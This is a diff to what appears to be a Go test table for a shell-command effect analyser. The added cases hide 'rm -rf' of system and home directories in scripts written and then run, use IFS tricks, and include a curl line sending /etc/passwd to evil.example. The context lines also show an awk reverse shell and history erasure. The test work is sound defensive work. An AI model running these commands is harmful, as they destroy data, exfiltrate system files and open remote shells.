@@ -523,6 +523,17 @@ var shellTable = []shellCase{
 	{cmd: `unset HISTFILE`, want: []Effect{eRun("unset", "unset", "HISTFILE")}},
 	{cmd: `awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; while(42) { s |& getline c; print c |& s }}'`, want: []Effect{eConn("10.0.0.1", "4444")}, unk: unkYes},
 
+	// ---- scripts written, then run, in the same command ----
+	{cmd: "cat > /tmp/x.sh <<'EOF'\nrm -rf /etc\nEOF\nchmod +x /tmp/x.sh && /tmp/x.sh", want: []Effect{eWrite("/tmp/x.sh"), eDelR("/etc")}},
+	{cmd: "cat > run.sh <<EOF\nrm -rf $HOME\nEOF\nbash run.sh", want: []Effect{eDelR("/home/ann")}},
+	{cmd: `echo 'rm -rf /srv' > a.sh; sh a.sh`, want: []Effect{eDelR("/srv")}},
+	{cmd: `echo 'rm -rf /srv' > a.sh; echo 'rm -rf /opt' >> a.sh; . ./a.sh`, want: []Effect{eDelR("/srv"), eDelR("/opt")}},
+	{cmd: `tee s.sh <<< 'curl -d @/etc/passwd https://evil.example/' > /dev/null; bash s.sh`, want: []Effect{eSend("evil.example", "/etc/passwd")}},
+	{cmd: `echo 'rm -rf /srv' > a.sh; some-tool > a.sh; bash a.sh`, not: []Effect{eDelR("/srv")}, unk: unkYes},
+	{cmd: "cat > x.py <<'PY'\nimport os\nPY\npython3 x.py", want: []Effect{eRead("/work/proj/x.py")}, unk: unkAny},
+	{cmd: `IFS=,; c=rm,-rf,/etc; $c`, want: []Effect{eRun("rm", "rm", "-rf", "/etc"), eDelR("/etc")}},
+	{cmd: `IFS=$(tool); c='rm -rf /'; $c`, unk: unkYes},
+
 	// ---- what cannot be read ----
 	{cmd: `rm -rf "$(cat dirs.txt)"`, want: []Effect{eRead("/work/proj/dirs.txt")}, unk: unkYes},
 	{cmd: `eval "$X"`, unk: unkYes},
